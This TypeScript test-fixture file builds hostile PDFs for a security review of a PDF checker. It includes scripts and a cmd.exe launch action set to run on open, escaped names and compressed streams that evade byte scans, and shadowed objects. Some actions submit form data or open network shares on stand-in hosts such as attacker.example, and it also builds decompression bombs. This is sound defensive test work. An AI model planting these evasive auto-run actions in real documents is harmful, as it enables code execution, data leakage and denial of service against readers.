import { createDeflate } from 'node:zlib';
import { PdfObject, withObjectStream, writePdf } from './pdf-writer';

/**
 * PDFs written byte by byte, so that a test controls what pdf-lib would hide: which definition of a
 * repeated object the cross-reference table names, objects packed into compressed object streams,
 * `#xx`-escaped names, incremental updates, automatic actions, decompression bombs and huge object
 * counts (written with pdf-writer.ts). Each builder gives one small page that any reader opens;
 * only the named trick differs.
 */

const CATALOG = 1;
const PAGES = 2;
const PAGE = 3;
const CONTENT = 4;
const FONT = 5;

/** The objects of a one-page document; `catalogExtra` and `pageExtra` add keys to the catalog and the page. */
export function onePage(options: { catalogExtra?: string; pageExtra?: string; text?: string } = {}): PdfObject[] {
  const content = Buffer.from(`BT /F1 14 Tf 50 780 Td (${options.text ?? 'MDS/SDS original'}) Tj ET`);
  return [
    { id: CATALOG, value: `<< /Type /Catalog /Pages ${PAGES} 0 R ${options.catalogExtra ?? ''} >>` },
    { id: PAGES, value: `<< /Type /Pages /Kids [${PAGE} 0 R] /Count 1 >>` },
    { id: PAGE, value: `<< /Type /Page /Parent ${PAGES} 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 ${FONT} 0 R >> >> /Contents ${CONTENT} 0 R ${options.pageExtra ?? ''} >>` },
    { id: CONTENT, value: '<< >>', stream: content },
    { id: FONT, value: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
  ];
}

// ---------------------------------------------------------------------------------------------
// The hostile files of the security review, and plain ones that must still pass.

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** The same script under `#xx`-escaped names, which a search of the raw bytes does not find. */
const ESCAPED_SCRIPT = '<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>';

/**
 * The cross-reference names object 6, a script run on open (its names escaped, so the raw bytes
 * show no "/JavaScript"); a benign copy of 6 written after it is what pdf-lib keeps.
 */
export function shadowedScriptPdf(): Buffer {
  const action = 6;
  return writePdf([{ objects: [...onePage({ catalogExtra: `/OpenAction ${action} 0 R` }), { id: action, value: ESCAPED_SCRIPT }, { id: action, value: `[${PAGE} 0 R /Fit]` }], xrefNames: 'first' }]);
}

/** The reverse: object 6 is defined twice and the xref names the benign first copy; the script comes after (what a repairing reader would take). */
export function shadowingScriptPdf(): Buffer {
  const action = 6;
  return writePdf([{ objects: [...onePage({ catalogExtra: `/OpenAction ${action} 0 R` }), { id: action, value: `[${PAGE} 0 R /Fit]` }, { id: action, value: SCRIPT }], xrefNames: 'first' }]);
}

/** A script on open under names a naive check does not read: `/S /J#61vaScript /J#53 (…)`, lower-case hex included. */
export function escapedScriptPdf(): Buffer {
  return writePdf([{ objects: onePage({ catalogExtra: `/OpenAction ${ESCAPED_SCRIPT}` }) }]);
}

/** A launch action under escaped names (`/L#61unch`), run on open. */
export function escapedLaunchPdf(): Buffer {
  return writePdf([{ objects: onePage({ catalogExtra: '/OpenAction << /#53 /L#61#75nch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>' }) }]);
}

/** The catalog and its script on open inside a compressed object stream: nothing readable in the raw bytes. */
export function packedScriptPdf(): Buffer {
  const [catalog, ...rest] = onePage({ catalogExtra: `/OpenAction ${SCRIPT}` });
  return writePdf([{ objects: rest, packed: [catalog] }]);
}

/** An automatic action in the catalog's /OpenAction (any action but an internal GoTo). */
export function openActionPdf(action: string): Buffer {
  return writePdf([{ objects: onePage({ catalogExtra: `/OpenAction ${action}` }) }]);
}

export const HOSTILE_ACTIONS = {
  uri: '<< /S /URI /URI (https://tracker.example/opened) >>',
  goToRNetwork: '<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\doc.pdf) /D [0 /Fit] >>',
  submitForm: '<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> /Flags 4 >>',
  importData: '<< /S /ImportData /F (\\\\\\\\attacker.example\\\\share\\\\data.fdf) >>',
  named: '<< /S /Named /N /Print >>',
  goToThenUri: `<< /S /GoTo /D [${PAGE} 0 R /Fit] /Next << /S /URI /URI (https://tracker.example/chained) >> >>`,
} as const;

/** Additional actions (/AA) on the page: run when it opens, without a click. */
export function additionalActionsPdf(): Buffer {
  return writePdf([{ objects: onePage({ pageExtra: `/AA << /O << /S /GoTo /D [${PAGE} 0 R /Fit] >> >>` }) }]);
}

/** A link whose click submits to a network share (GoToR), on a page that is otherwise plain. */
export function linkActionPdf(action: string): Buffer {
  const annotation = 6;
  return writePdf([
    { objects: [...onePage({ pageExtra: `/Annots [${annotation} 0 R]` }), { id: annotation, value: `<< /Type /Annot /Subtype /Link /Rect [50 760 200 780] /A ${action} >>` }] },
  ]);
}

/**
 * A link's web link action kept as an object of its own (as many producers write it); with
 * `alsoOnOpen`, the open action's jump runs that same action next (/Next), without a click.
 */
export function referencedWebLinkPdf(options: { alsoOnOpen?: boolean } = {}): Buffer {
  const [annotation, action] = [6, 7];
  const openAction = options.alsoOnOpen ? `/OpenAction << /S /GoTo /D [${PAGE} 0 R /Fit] /Next ${action} 0 R >>` : '';
  return writePdf([
    {
      objects: [
        ...onePage({ catalogExtra: openAction, pageExtra: `/Annots [${annotation} 0 R]` }),
        { id: annotation, value: `<< /Type /Annot /Subtype /Link /Rect [50 760 200 780] /A ${action} 0 R >>` },
        { id: action, value: '<< /Type /Action /S /URI /URI (https://vendor.example/sds) >>' },
      ],
    },
  ]);
}

/** A plain original updated incrementally: the update redefines the catalog to add `catalogExtra`. */
export function incrementalUpdatePdf(catalogExtra: string): Buffer {
  const [catalog] = onePage({ catalogExtra });
  return writePdf([{ objects: onePage() }, { objects: [catalog] }]);
}

/**
 * An update whose catalog carries a script, while its cross-reference still names the original's
 * catalog: readers following the xref see the plain one, a reader repairing the file sees the script.
 */
export function updateBehindXrefPdf(): Buffer {
  const [catalog] = onePage({ catalogExtra: `/OpenAction ${SCRIPT}` });
  return writePdf([{ objects: onePage() }, { objects: [catalog, { id: 7, value: '<< >>' }], pointBackTo: { [CATALOG]: 0 } }]);
}

/** The open action references object 6, a script written in the body but left out of the xref: null to qpdf, a script to a reader that scans. */
export function unlistedScriptPdf(): Buffer {
  const action = 6;
  return writePdf([{ objects: [...onePage({ catalogExtra: `/OpenAction ${action} 0 R` }), { id: action, value: ESCAPED_SCRIPT }], unlisted: [action] }]);
}

/** A plain document with a link to an internal destination, a named destination, a web link and a page-fit open action. */
export function plainNavigationPdf(options: { packed?: boolean } = {}): Buffer {
  const [internal, web, dests] = [6, 7, 8];
  const objects = [
    ...onePage({ catalogExtra: `/OpenAction [${PAGE} 0 R /Fit] /Dests ${dests} 0 R`, pageExtra: `/Annots [${internal} 0 R ${web} 0 R]` }),
    { id: internal, value: `<< /Type /Annot /Subtype /Link /Rect [50 700 200 720] /A << /S /GoTo /D (top) >> >>` },
    { id: web, value: '<< /Type /Annot /Subtype /Link /Rect [50 760 200 780] /A << /S /URI /URI (https://vendor.example/sds) >> >>' },
    { id: dests, value: `<< /top [${PAGE} 0 R /XYZ 0 842 0] >>` },
  ];
  if (!options.packed) return writePdf([{ objects }]);
  return writePdf([{ objects: objects.filter((o) => o.stream), packed: objects.filter((o) => !o.stream) }]);
}

/**
 * A decompression bomb: an object stream of `inflatedBytes` (mostly blanks after one object) that
 * deflates to about a thousandth of that. Built by streaming so the test never holds it inflated.
 */
export async function deflateBombPdf(inflatedBytes: number): Promise<Buffer> {
  const [catalog, ...rest] = onePage();
  const header = `${CATALOG} 0 `;
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => parts.push(chunk));
  const done = new Promise<void>((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  deflate.write(Buffer.from(`${header}${catalog.value}\n`, 'latin1'));
  const blanks = Buffer.alloc(1024 * 1024, 0x20);
  for (let written = 0; written < inflatedBytes; written += blanks.length) {
    if (!deflate.write(blanks)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  const streamId = 6;
  const objectStream: PdfObject = { id: streamId, value: `<< /Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode >>`, stream: Buffer.concat(parts) };
  return withObjectStream(rest, objectStream, [CATALOG]);
}

/** A one-page document plus `count` objects (small dictionaries) packed into one object stream. */
export function manyObjectsPdf(count: number): Buffer {
  const base = onePage();
  const packed: PdfObject[] = [];
  for (let i = 0; i < count; i++) packed.push({ id: 100 + i, value: `<< /K ${i} >>` });
  return writePdf([{ objects: base, packed }]);
}
